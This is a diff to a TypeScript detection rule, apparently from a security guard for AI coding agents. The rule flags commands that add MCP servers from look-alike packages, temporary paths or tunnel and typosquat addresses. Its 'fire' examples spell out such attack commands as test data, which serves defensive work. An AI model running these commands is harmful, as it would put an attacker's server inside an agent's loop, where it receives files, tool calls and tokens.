@@ -519,13 +519,7 @@ export const RULES: readonly Rule[] = [
     message: "Adds an MCP server that runs a look-alike package, a program in a temporary place, or a server at a tunnel, drop or look-alike address",
     why: "The agent starts an MCP server at every session and hands it its tool calls, the files it reads and often a token: a server published under a name one letter off the real one, or served from a tunnel, is the attacker's program in the agent's loop.",
     alternative: "Add servers from their publisher's documented package or address, and read the configuration diff.",
-    check: (i) => {
-      for (const source of mcpServerSources(i)) {
-        const hit = unvettedServer(source);
-        if (hit) return hit;
-      }
-      return undefined;
-    },
+    check: (i) => mcpServerSources(i).map(unvettedServer).find((hit) => hit !== undefined),
     examples: {
       fire: ['claude mcp add --scope user github -- npx -y @modelcontextprotocol/server-githb', 'claude mcp add --transport http gh https://cold-river-4821.trycloudflare.com/mcp', `jq '.context_servers.tools = {"command":{"path":"/tmp/.x11-cache/mcpd","args":["--stdio"]}}' ~/.config/zed/settings.json | sponge ~/.config/zed/settings.json`, `claude mcp add-json docs '{"type":"sse","url":"https://mcp-docs.anthropic-tools.dev.trycloudflare.com/sse"}'`],
       quiet: ['claude mcp add playwright -- npx -y @playwright/mcp@latest', 'claude mcp add --scope user github -- npx -y @modelcontextprotocol/server-github', 'claude mcp add --transport http sentry https://mcp.sentry.dev/mcp', `jq '.mcpServers.sentry = {"url":"https://mcp.sentry.dev/mcp"}' ~/.cursor/mcp.json | sponge ~/.cursor/mcp.json`],
